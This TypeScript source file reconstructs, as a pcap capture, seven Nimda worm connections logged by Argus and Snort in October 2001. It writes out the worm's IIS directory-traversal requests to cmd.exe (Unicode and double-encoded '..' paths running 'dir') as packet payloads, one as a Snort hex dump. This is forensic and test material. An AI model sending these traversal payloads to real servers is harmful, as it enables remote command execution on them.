// The capture of the letter that stray was written for: seven conversations without a handshake, from one
// source to an address nobody used, as an Argus log and a Snort alert of October 2001 tell them.
// Always holds: times, ports, packet counts and application bytes are the log's; in flow 27708 the second data
// segment is the packet Snort logged, byte for byte; every other packet has IP ID 0; no packet has SYN.
// Not in the letter, and chosen here: the fractions of seconds, sequence numbers, and the other requests. The
// log's byte counts, halved, are the lengths of the requests that the Nimda worm made, so those stand here.

import { ethernet, hex, ipv4, tcp, text } from "./frame.js";
import { pcapBytes } from "./pcap-writer.js";

export interface TimedFrame {
  timeNs: bigint;
  frame: Uint8Array;
}

const SOURCE_MAC = "0:0:c:46:5c:d1";
const DESTINATION_MAC = "0:e0:1e:8e:31:71";
const SOURCE = "217.29.131.130";
const DESTINATION = "130.216.236.45";
const DESTINATION_PORT = 80;
const TTL = 101;
const WINDOW = 0x4470;

/** The payload of Snort's alert, from its hex dump: 97 bytes, with the worm's own "Connnection". */
export const SNORT_PAYLOAD = hex(`
  47 45 54 20 2F 73 63 72 69 70 74 73 2F 2E 2E 25
  63 31 25 31 63 2E 2E 2F 77 69 6E 6E 74 2F 73 79
  73 74 65 6D 33 32 2F 63 6D 64 2E 65 78 65 3F 2F
  63 2B 64 69 72 20 48 54 54 50 2F 31 2E 30 0D 0A
  48 6F 73 74 3A 20 77 77 77 0D 0A 43 6F 6E 6E 6E
  65 63 74 69 6F 6E 3A 20 63 6C 6F 73 65 0D 0A 0D
  0A`);

/** Snort's time, 10/17-11:37:07.512622, in the year of the letter. */
export const SNORT_TIME_NS = utc("11:37:07", 512622);
const SNORT_IP_ID = 20959;

interface LetterFlow {
  port: number;
  /** Start, as logged, and the microseconds that the log leaves out. */
  start: string;
  startUs: number;
  packets: 2 | 4;
  payload: Uint8Array;
  seq: number;
  ack: number;
}

function request(path: string): Uint8Array {
  return text(
    `GET ${path}/winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\nHost: www\r\nConnnection: close\r\n\r\n`,
  );
}

const FLOWS: readonly LetterFlow[] = [
  flow(26735, "11:31:06", 204518, 2, request("/c"), 0x4a37c5e1, 0x0d917a33),
  flow(
    27112,
    "11:33:19",
    871250,
    4,
    request("/_vti_bin/..%255c../..%255c../..%255c.."),
    0x4e805b17,
    0x0e3b2f58,
  ),
  flow(27708, "11:37:04", 498071, 4, SNORT_PAYLOAD, 0x586174ac, 0x0ffc41c7),
  flow(28329, "11:40:49", 337902, 4, request("/scripts/..%c0%2f.."), 0x62f9d08d, 0x11bb6e02),
  flow(28582, "11:43:58", 640177, 2, request("/scripts/..%%35%63.."), 0x6a1c3f74, 0x132e94db),
  flow(29066, "11:45:22", 19346, 4, request("/scripts/..%25%35%63.."), 0x6df4a2c9, 0x13d80b46),
  flow(29305, "11:46:52", 752839, 4, request("/scripts/..%252f.."), 0x71e86b50, 0x148c57f1),
];

/** When each packet of a flow follows its first: the segment again, then twice the bare FIN. */
const RETRY_US: readonly number[] = [0, 3_014_551, 9_030_112, 21_047_306];

/** All 24 packets in the order of time. */
export function letterFrames(): TimedFrame[] {
  return FLOWS.flatMap(flowFrames).sort((a, b) => (a.timeNs < b.timeNs ? -1 : 1));
}

/** The capture as a pcap file (Ethernet, microseconds). */
export function letterCapture(): Uint8Array {
  return pcapBytes({ snapLength: 65535 }, (writer) => {
    for (const { timeNs, frame } of letterFrames()) writer.write(timeNs, frame);
  });
}

function flowFrames(flow: LetterFlow): TimedFrame[] {
  const start = utc(flow.start, flow.startUs);
  return RETRY_US.slice(0, flow.packets).map((delayUs, index) => {
    const timeNs = start + BigInt(delayUs) * 1000n;
    return { timeNs, frame: packet(flow, index, timeNs === SNORT_TIME_NS) };
  });
}

/** Packets 0 and 1 carry the request, the same bytes twice; 2 and 3 only the FIN behind it. */
function packet(flow: LetterFlow, index: number, loggedBySnort: boolean): Uint8Array {
  const hasData = index < 2;
  const segment = tcp(
    {
      sport: flow.port,
      dport: DESTINATION_PORT,
      seq: hasData ? flow.seq : flow.seq + flow.payload.length,
      ack: flow.ack,
      flags: hasData ? "FPA" : "FA",
      window: WINDOW,
    },
    hasData ? flow.payload : new Uint8Array(0),
  );
  const id = loggedBySnort ? SNORT_IP_ID : 0;
  return ethernet(
    { src: SOURCE_MAC, dst: DESTINATION_MAC, pad: 60 },
    ipv4({ src: SOURCE, dst: DESTINATION, ttl: TTL, df: true, id }, segment),
  );
}

function flow(
  port: number,
  start: string,
  startUs: number,
  packets: 2 | 4,
  payload: Uint8Array,
  seq: number,
  ack: number,
): LetterFlow {
  return { port, start, startUs, packets, payload, seq, ack };
}

function utc(clock: string, us: number): bigint {
  return BigInt(Date.parse(`2001-10-17T${clock}Z`)) * 1_000_000n + BigInt(us) * 1000n;
}
